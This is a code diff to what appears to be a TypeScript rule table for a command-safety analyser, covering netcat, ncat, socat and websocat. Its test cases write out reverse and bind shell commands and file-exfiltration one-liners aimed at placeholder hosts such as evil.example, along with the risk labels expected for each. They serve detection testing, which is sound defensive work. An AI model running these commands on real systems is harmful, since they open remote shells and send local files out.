@@ -134,13 +134,15 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     ],
   },
   {
-    name: ["nc", "netcat", "nc.traditional", "nc.openbsd"],
+    name: ["nc", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "dbd", "sbd"],
     options: optionList(
       `-4 -6 -b -C -c=code -D -d -e=command -F -g= -G= -h -i= -I= -K= -k -l -L -M= -m= -N -n -O= -o=write -P= -p= -q= -r -S -s= -T= -t -U -u -V= -v -vv -W= -w= -X= -x= -z -Z=write -A`,
     ),
     operands: "host port",
     sends: true,
     fetches: true,
+    serves: true,
+    when: [{ has: ["-l"], operands: "", listens: true }],
     tests: [
       {
         run: "nc -w 3 evil.example 4444 < ~/x",
@@ -150,7 +152,21 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
       {
         run: "nc -e /bin/sh evil.example 4444",
         network: ["both tcp://evil.example"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
         commands: ["nc", "sh"],
+      },
+      {
+        run: "nc -lp 9 -e /bin/bash",
+        executes: ["network bash"],
+        network: ["listen ?"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "nc -c 'cat k' h.example 9",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k"],
+        commands: ["nc", "cat"],
       },
     ],
   },
@@ -164,8 +180,28 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     operands: "host port",
     sends: true,
     fetches: true,
+    serves: true,
+    when: [{ has: ["-l"], operands: "", listens: true }],
     lang: "lua",
     tests: [
+      {
+        run: "ncat --listen --exec=/bin/bash 4444",
+        executes: ["network bash"],
+        network: ["listen ?"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "ncat --sh-exec 'grep x k' h.example 9",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k"],
+      },
+      {
+        run: "ncat --lua-exec x.lua -l 9",
+        reads: ["./x.lua"],
+        executes: ["file lua"],
+        network: ["listen ?"],
+        unknown: ["opaque-file"],
+      },
       {
         run: "ncat --send-only h.example 99 < x",
         reads: ["./x"],
@@ -176,19 +212,73 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["socat", "socat1", "filan"],
     handler: "socat",
-    options: optionList(
-      `-V -h -? -hh -hhh -d -dd -ddd -dddd -D --experimental --statistics -lf=write -ls -ly= -lu -lp= -lm= -lh -v -x -r=write -R=write -b= -s -S= -t= -T= -u -U -g -L=write -W=write -4 -6 -0 -q`,
-    ),
-    style: "single",
-    operands: "host host",
     sends: true,
     fetches: true,
     tests: [
       {
         run: "socat -u OPEN:x TCP:h.example:1",
         reads: ["./x"],
+        network: ["both tcp://h.example:1 < ./x"],
+      },
+      {
+        run: "socat TCP:h.example:1 OPEN:x,creat",
+        reads: ["./x"],
         writes: ["./x"],
         network: ["both tcp://h.example:1 < ./x"],
+      },
+      {
+        run: "socat DCCP-LISTEN:4444 EXEC:/bin/sh",
+        network: ["listen ?"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "socat exec:'bash -li',pty,stderr,setsid tcp:h.example:1",
+        network: ["both tcp://h.example:1"],
+        executes: ["network bash"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "socat -u OPEN:k EXEC:'curl --data-binary @- h.example'",
+        reads: ["./k"],
+        network: ["both http://h.example < ./k"],
+        commands: ["socat", "curl"],
+      },
+      {
+        run: "socat SYSTEM:'cat k' SSL:h.example:1",
+        reads: ["./k"],
+        network: ["both ssl://h.example:1 < ./k"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: 'socat FILE:k "TCP:$host:1"',
+        reads: ["./k"],
+        network: ["both ? < ./k"],
+        writes: ["./k"],
+        unknown: ["dynamic-argument"],
+      },
+      { run: "socat -r dump - TCP:h.example:1", writes: ["./dump"], network: ["both tcp://h.example:1"] },
+      { run: "socat -u ./k CREATE:y", reads: ["./k"], writes: ["./y"] },
+      { run: "socat - UNIX-CONNECT:/run/x.sock" },
+      { run: "socat -V" },
+      { run: "socat FROB:x -", unknown: ["unknown-option"] },
+    ],
+  },
+  {
+    name: ["websocat", "wscat", "wsdump"],
+    loose: true,
+    options: optionList(
+      "-H,--header=header -b -e -c,--connect=url -x,--execute= -l,--listen= --exec=code -k --ca=",
+    ),
+    operands: "host*",
+    sends: true,
+    fetches: true,
+    serves: true,
+    tests: [
+      {
+        run: "websocat wss://h.example/x < k",
+        reads: ["./k"],
+        network: ["both wss://h.example/x < ./k"],
       },
     ],
   },
